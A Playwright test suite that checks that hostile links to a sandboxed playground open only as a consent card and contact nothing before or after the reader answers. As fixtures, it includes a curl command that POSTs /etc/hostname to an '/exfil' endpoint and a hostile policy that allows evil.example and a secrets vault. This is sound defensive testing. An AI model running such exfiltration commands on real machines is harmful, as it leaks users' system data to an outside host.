import { createHash } from "node:crypto";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, type Page, test } from "@playwright/test";
import { answerLinkCard } from "./support/consent";
import { BOOT_TIMEOUT_MS, closePlayground, openPlayground, type Playground } from "./support/guest";
import { packForLink } from "./support/link-material";
import { upstream } from "./support/upstreams";

// Material from a link is untrusted (docs/decisions/0028): a hostile draft link, a hostile share
// link and a hostile framing parent, each opened with zero clicks, show the card and change
// nothing, run nothing and contact nothing — a local canary server (the reader's own machine)
// must see no request, before or after the reader answers. One guest boot for the file; each
// link is a further page load that restores the kept state.
test.describe.configure({ mode: "serial" });

let pg: Playground;
let canary: Server;
let canaryPort = 0;
/** Every request (and WebSocket upgrade) the reader's machine received. */
const canarySaw: string[] = [];

const hostileLesson = (port: number) => `lesson: 1
title: A harmless tour
summary: Nothing to see here.
setup:
  - curl -sS -m 5 -X POST --data-binary @/etc/hostname http://localhost:${port}/exfil
policy:
  version: 1
  mode: report
  http: allow
  ports: [443, ${port}]
  vaults: [demo-notes, reader-secrets]
  hosts:
    - host: localhost
    - host: api.github.com
steps:
  - title: Reach the reader's own machine
    text: Try the reader's local server.
    solve: curl -sS -m 5 http://localhost:${port}/
    expect:
      - verdict: private-address
        by: proxy
`;

const HOSTILE_POLICY = (port: number) =>
  JSON.stringify({
    version: 1,
    mode: "report",
    http: "allow",
    ports: [443, port],
    vaults: ["demo-notes", "reader-secrets"],
    hosts: [{ host: "localhost" }, { host: "evil.example" }],
  });

test.beforeAll(async ({ browser }) => {
  test.setTimeout(BOOT_TIMEOUT_MS);
  canary = createServer((request, response) => {
    canarySaw.push(`${request.method} ${request.url}`);
    response.writeHead(200, { "access-control-allow-origin": "*", "content-type": "text/plain" });
    response.end("the reader's machine answered\n");
  });
  canary.on("upgrade", (request, socket) => {
    canarySaw.push(`upgrade ${request.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => canary.listen(0, "127.0.0.1", resolve));
  canaryPort = (canary.address() as AddressInfo).port;
  pg = await openPlayground(browser);
  // The suite refuses every host but 127.0.0.1 (refuseUnplanned is not registered here, but be
  // explicit): a request to the canary by name must really reach it, or this file proves nothing.
  await pg.context.route(new RegExp(`^http://localhost:${canaryPort}/`), (route) => route.continue());
});

test.afterAll(async () => {
  await closePlayground(pg);
  await new Promise((resolve) => canary?.close(resolve));
});

/** What the page did that a link could have caused: commands typed, policy changes, scenario runs. */
const effects = (page: Page) =>
  page.evaluate(() => ({
    commands: window.__tab?.guest?.console.shell.records.length ?? -1,
    policyChanges: (window.__tab?.log.ofKind("policy.change") ?? []).map((e) => e.source).filter((s) => s !== "default policy"),
    scenarios: (window.__tab?.log.ofKind("scenario") ?? []).length,
    relay: window.__tab?.relay.current()?.url ?? null,
    mode: window.__tab?.policy.current().mode ?? "enforce",
  }));

const NOTHING = { commands: 0, policyChanges: [], scenarios: 0, relay: null, mode: "enforce" };

async function openLink(page: Page, path: string): Promise<void> {
  await page.goto(path);
  await page.waitForFunction(() => window.__tab !== undefined);
  await page.evaluate(async () => {
    await window.__tab?.guestReady;
    await window.__tab?.featuresReady;
  });
}

test("a hostile draft link opens as a card: nothing typed, no policy, no request, until Accept; then its lesson runs minus what the guarantees refuse", async () => {
  test.setTimeout(240_000);
  const { page } = pg;
  await openLink(page, `./?from=a-stranger#lesson-draft=${packForLink(hostileLesson(canaryPort))}`);
  const card = page.getByTestId("consent-card");
  await expect(card).toBeVisible();
  await expect(card).toContainText("A harmless tour");
  await expect(card.getByTestId("consent-setup")).toContainText(`http://localhost:${canaryPort}/exfil`);
  await expect(card.getByTestId("consent-policy")).toContainText("mode: enforce → report");
  await expect(card.getByTestId("consent-refused")).toContainText("reader-secrets");
  await expect(card.getByTestId("consent-refused")).toContainText("localhost");
  await expect(page.getByTestId("lesson-pending")).toBeVisible();
  await page.screenshot({ path: "docs/screenshots/link-card.png" }); // docs/guide.md, "A link from someone else"
  // Time for anything the link could have started on its own to show.
  await page.waitForTimeout(2_000);
  expect(await effects(page)).toEqual(NOTHING);
  expect(canarySaw).toEqual([]);

  await answerLinkCard(page, "accept");
  // The setup runs, and its POST to the reader's machine is refused before any fetch.
  await page.waitForFunction(() => window.__tab?.log.ofKind("proxy.decision").some((e) => e.code === "private-address"), null, {
    timeout: 120_000,
  });
  const applied = await page.evaluate(() => window.__tab!.policy.current());
  expect(applied.mode).toBe("report");
  expect(applied.vaults).toEqual(["demo-notes"]);
  expect(applied.hosts.map((h) => h.host)).toEqual(["api.github.com"]);
  await page.getByTestId("lesson-show-me").click();
  await expect
    .poll(() => page.evaluate(() => window.__tab?.log.ofKind("lesson.step").map((e) => e.result)), { timeout: 120_000 })
    .toEqual(["passed"]);
  expect(canarySaw).toEqual([]);
});

test("a hostile share link with a relay opens as one card; Reject leaves everything as it was, and the relay is never contacted", async () => {
  test.setTimeout(120_000);
  const { page } = pg;
  const link = `./?policy=${packForLink(HOSTILE_POLICY(canaryPort))}&scenarios=served,host-not-allowed&relay=${encodeURIComponent(`ws://127.0.0.1:${canaryPort}/`)}`;
  await openLink(page, link);
  const card = page.getByTestId("consent-card");
  await expect(card.locator('[data-part="share"]')).toContainText("served, host-not-allowed");
  await expect(card.locator('[data-part="relay"]')).toContainText(`127.0.0.1:${canaryPort}`);
  await expect(card.getByTestId("consent-refused")).toContainText("localhost");
  await page.waitForTimeout(2_000);
  expect(await effects(page)).toEqual(NOTHING);
  expect(canarySaw).toEqual([]);

  await answerLinkCard(page, "reject");
  await expect(page.getByTestId("replay-compare")).toContainText("You rejected this share link");
  await page.waitForTimeout(2_000);
  expect(await effects(page)).toEqual(NOTHING);
  expect(canarySaw).toEqual([]);
});

test("a share link's policy published elsewhere is fetched only once the reader accepts", async () => {
  test.setTimeout(120_000);
  const { page } = pg;
  const published = JSON.stringify({ version: 1, hosts: [{ host: "api.github.com" }, { host: "pypi.org" }] });
  const fetched: string[] = [];
  await pg.context.route("https://pub.example/policies/p.json", (route) => {
    fetched.push(route.request().method());
    return upstream(200, { "content-type": "application/json" }, published)(route);
  });
  const ref = `https://pub.example/policies/p.json#sha256=${createHash("sha256").update(published).digest("hex")}`;
  await openLink(page, `./?policy-ref=${encodeURIComponent(ref)}`);
  const card = page.getByTestId("consent-card");
  await expect(card.getByTestId("consent-policy-ref")).toContainText("pub.example");
  await page.waitForTimeout(2_000);
  expect(fetched).toEqual([]);
  expect(await effects(page)).toEqual(NOTHING);

  await answerLinkCard(page, "accept");
  await page.waitForFunction(() => window.__tab?.log.ofKind("policy.change").some((e) => e.source === "share link"), null, {
    timeout: 60_000,
  });
  expect(fetched.filter((m) => m === "GET")).toEqual(["GET"]);
  expect(await page.evaluate(() => window.__tab!.policy.current().hosts.map((h) => h.host))).toEqual(["api.github.com", "pypi.org"]);
});

test("a hostile framing parent gets the card inside its frame, no setup run, no request, and no message for a mistyped embedder", async () => {
  test.setTimeout(240_000);
  const base = new URL(pg.page.url()).origin;
  // Another lesson than the first test's (its progress in this browser is its own).
  const draft = packForLink(hostileLesson(canaryPort).replace("A harmless tour", "A harmless demo"));
  const src = `${base}/?embed=1&embedder=docs.example#lesson-draft=${draft}`;
  const html = `<!doctype html><title>a stranger's page</title><script>
    window.messages = [];
    addEventListener("message", (e) => window.messages.push(e.data));
  </script><iframe id="demo" width="800" height="500" src="${src.replace(/&/g, "&amp;")}"></iframe>`;
  await pg.context.route(`${base}/hostile-parent.html`, upstream(200, { "content-type": "text/html" }, html));
  const parent = await pg.context.newPage();
  try {
    await parent.goto(`${base}/hostile-parent.html`);
    const frame = parent.frameLocator("#demo");
    const card = frame.getByTestId("consent-card");
    await expect(card).toBeVisible({ timeout: BOOT_TIMEOUT_MS });
    await expect(card.getByTestId("consent-setup")).toContainText("/exfil");
    await expect(frame.getByTestId("lesson-card")).toContainText("is not an origin");
    await parent.waitForTimeout(2_000);
    expect(canarySaw).toEqual([]);
    const messages = () => parent.evaluate(() => (window.messages ?? []).length);
    expect(await messages()).toBe(0);

    await card.locator('button[data-decision="accept"]').click();
    await expect(frame.getByTestId("lesson-run")).toHaveAttribute("data-step", "1", { timeout: 60_000 });
    await expect(frame.getByTestId("lesson-show-me")).toBeEnabled({ timeout: 60_000 });
    await frame.getByTestId("lesson-show-me").click();
    await expect(frame.getByTestId("lesson-done")).toBeVisible({ timeout: 120_000 });
    expect(canarySaw).toEqual([]);
    expect(await messages()).toBe(0);
  } finally {
    await parent.close();
  }
});
